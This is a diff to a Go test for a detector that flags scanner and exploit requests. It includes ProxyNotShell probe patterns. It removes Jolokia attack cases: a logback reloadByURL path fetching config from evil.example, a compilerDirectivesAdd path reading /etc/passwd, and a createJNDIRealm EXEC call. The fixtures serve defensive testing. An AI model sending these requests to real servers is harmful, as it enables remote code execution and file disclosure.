@@ -90,13 +90,6 @@ func TestScannerRequest(t *testing.T) {
 			q("Email", "autodiscover/autodiscover.json?@foo.com")}, true},
 		{"proxynotshell", "mail.example", "/autodiscover/autodiscover.json", []request.Param{
 			q("a..foo.var/owa/", ""), q("Protocol", "XYZ"), q("FooProtocol", "Powershell")}, true},
-		{"jolokia reloadByURL", "app.example", "/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/evil.example!/logback.xml",
-			segs("/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/evil.example!/logback.xml"), true},
-		{"jolokia compiler directives", "app.example", "/jolokia/exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/!/etc!/passwd",
-			segs("/jolokia/exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/!/etc!/passwd"), true},
-		{"jolokia post", "app.example", "/jolokia/", []request.Param{
-			{Source: request.SourceJSON, Name: "type", Value: "EXEC"},
-			{Source: request.SourceJSON, Name: "operation", Value: "createJNDIRealm(java.lang.String)"}}, true},
 		// Benign.
 		{"xdebug cookie", "dev.example", "/", []request.Param{{Source: request.SourceCookie, Name: "XDEBUG_SESSION", Value: "PHPSTORM"}}, false},
 		{"acunetix blog", "blog.example", "/acunetix-wvs-test-explained", segs("/acunetix-wvs-test-explained"), false},
@@ -107,9 +100,6 @@ func TestScannerRequest(t *testing.T) {
 			q("Email", "user@contoso.com"), q("Protocol", "AutodiscoverV1"), q("RedirectCount", "1")}, false},
 		{"outlook autodiscover v1", "mail.example", "/autodiscover/autodiscover.json/v1.0/user@contoso.com", []request.Param{
 			q("Protocol", "ActiveSync")}, false},
-		{"jolokia read", "app.example", "/jolokia/read/java.lang:type=Memory/HeapMemoryUsage", segs("/jolokia/read/java.lang:type=Memory/HeapMemoryUsage"), false},
-		{"jolokia gc", "app.example", "/jolokia/exec/java.lang:type=Memory/gc", segs("/jolokia/exec/java.lang:type=Memory/gc"), false},
-		{"reloadByURL elsewhere", "app.example", "/docs/logback", []request.Param{q("method", "reloadByURL")}, false},
 		{"powershell elsewhere", "app.example", "/search", []request.Param{q("q", "powershell autodiscover.json")}, false},
 	}
 	for _, tt := range tests {
